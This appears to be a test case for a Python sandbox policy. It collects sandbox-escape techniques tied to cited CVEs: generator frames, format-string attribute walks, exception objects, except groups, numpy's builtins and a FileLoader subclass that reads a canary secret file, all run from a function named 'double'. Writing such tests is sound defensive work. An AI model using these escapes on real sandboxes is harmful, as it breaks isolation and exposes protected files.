# /// attack
# title = "reaches the builtins by generator frames, format strings, exceptions' objects and except groups"
# aim = "code that the policy was to keep out"
# source = "CVE-2023-37271; CVE-2023-41039; CVE-2024-47532; CVE-2025-22153"
# refused = true
# ///
import string

from targets import CANARY, attempt


def by_a_generator():
    frames = []
    frame = "gi_" + "frame"
    generator = (getattr(generator, frame) for _ in [0])
    return [f for f in generator][0].__class__


def by_a_format():
    return "{0.__class__.__mro__[1].__subclasses__}".format(0)


def by_a_formatter():
    return string.Formatter().get_field("a.__class__.__base__", [], {"a": 0})


def by_an_exception():
    try:
        string.nothing
    except AttributeError as error:
        return error.obj


def by_a_group():
    try:
        raise ExceptionGroup("", [TypeError()])
    except* TypeError as group:
        found = group.exceptions[0].with_traceback
    return found


def by_the_library():
    import numpy as np

    return vars(np)["__buil" + "tins__"]["op" + "en"](CANARY + "/secret").read()


def by_a_class():
    for found in object.__dict__["__subcl" + "asses__"](object):
        if found.__name__ == "FileLoader":
            return found("x", CANARY + "/secret").get_data(CANARY + "/secret")


def double(x):
    for way in (by_a_generator, by_a_format, by_a_formatter, by_an_exception, by_a_group, by_the_library, by_a_class):
        attempt(way)
    return x
